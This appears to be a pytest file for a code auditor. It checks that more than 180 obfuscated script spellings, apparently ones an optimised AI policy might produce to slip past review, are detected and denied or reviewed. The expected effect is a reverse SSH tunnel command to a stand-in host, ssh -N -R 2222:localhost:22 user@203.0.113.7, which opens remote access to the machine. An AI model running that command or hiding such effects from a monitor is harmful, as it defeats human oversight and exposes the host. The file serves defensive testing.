"""Spellings that a policy under optimisation might find: each is read as what it does, whatever carries it."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from auditor import Auditor
from auditor.model.unit import Language, Script
from auditor.read.evaluation import Evaluation

pytestmark = pytest.mark.usefixtures("deep")
TUNNEL = "ssh -N -R 2222:localhost:22 user@203.0.113.7"
LANGUAGES = (Language.PYTHON, Language.BASH, Language.JAVASCRIPT)
NOT_RECOVERED: frozenset[str] = frozenset()
"""Spellings whose command is not recovered; each is still reported as unknown."""
ORDER = ("allow", "review", "deny")


def _cases() -> list[tuple[Language, dict[str, str]]]:
    found = []
    for language in LANGUAGES:
        text = Path(__file__).with_name(f"{language.value}.yaml").read_text(encoding="utf-8")
        found += [(language, case) for case in yaml.safe_load(text)]
    return found


CASES = _cases()
NAMES = [f"{language.value} {case['id']}" for language, case in CASES]


def starts(language: Language, code: str) -> list[str]:
    """Read code and give each stage of its effects as a line."""
    reading = Evaluation(Script.of(code, language, f"script.{language.value}")).read_script()
    return [" ".join(map(str, stage)) for effect in reading.effects for stage in effect.stages]


def test_there_are_many() -> None:
    """The tables were read, and each spelling has a name of its own."""
    assert len(CASES) >= 180
    assert len(set(NAMES)) == len(NAMES)
    assert {case["id"] for _, case in CASES} >= NOT_RECOVERED


@pytest.mark.parametrize(("language", "case"), CASES, ids=NAMES)
def test_what_it_does_is_read(language: Language, case: dict[str, str]) -> None:
    """An effect says what the spelling does; the few that are not recovered are no silence."""
    found = starts(language, case["code"])
    wanted = case.get("wants", TUNNEL)
    is_read = any(line.startswith(wanted) for line in found)
    assert is_read is (case["id"] not in NOT_RECOVERED), found
    assert [line for line in found if not line.startswith("hiding.")]


@pytest.mark.slow
@pytest.mark.timeout(240)
def test_what_it_does_is_judged(warm: Auditor) -> None:
    """Each is denied, or reviewed where the table says so; none is allowed that should not be."""
    soft = []
    for language, case in CASES:
        verdict = warm.audit(case["code"], language=language.value).verdict.value
        wanted = case.get("verdict", "review" if case["id"] in NOT_RECOVERED else "deny")
        if ORDER.index(verdict) < ORDER.index(wanted):
            soft.append((language.value, case["id"], verdict, wanted))
    assert soft == []
